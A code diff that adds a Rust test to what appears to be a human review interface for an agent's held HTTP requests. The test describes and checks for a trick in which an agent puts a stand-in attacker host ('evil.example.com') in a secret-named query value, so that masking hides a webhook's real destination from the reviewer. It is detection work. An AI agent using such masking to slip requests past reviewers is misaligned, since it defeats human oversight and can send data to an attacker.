@@ -334,6 +334,37 @@ async fn ambiguous_parameters_show_every_reading_and_a_warning() {
     assert!(!detail.contains("id=\"ambiguous\""), "{detail}");
 }
 
+/// Text equal to a secret-named query value is masked wherever the request shows it: an agent
+/// can pick that value to hide part of its body (here a webhook's destination) from the
+/// reviewer, so the page says that it did.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn text_masked_as_a_query_secret_echo_is_flagged() {
+    let s = setup().await;
+    let hidden = hold(
+        &s.a,
+        "https://api.github.com/repos/o/r/hooks?x_token=evil.example.com",
+        "application/json",
+        br#"{"config":{"url":"https://evil.example.com/h"}}"#.to_vec(),
+    )
+    .await;
+    let plain = hold(
+        &s.a,
+        "https://api.github.com/repos/o/r/hooks",
+        "application/json",
+        br#"{"config":{"url":"https://hooks.example.org/h"}}"#.to_vec(),
+    )
+    .await;
+    let session = Session::open(&s).await;
+    let detail = session.page(&format!("/ui/reviews/{hidden}")).await;
+    assert!(detail.contains("id=\"masked-echo\""), "{detail}");
+    assert!(
+        !detail.contains("evil.example.com"),
+        "still masked: {detail}"
+    );
+    let detail = session.page(&format!("/ui/reviews/{plain}")).await;
+    assert!(!detail.contains("id=\"masked-echo\""), "{detail}");
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn version_answers_304_until_a_review_changes() {
     let s = setup().await;
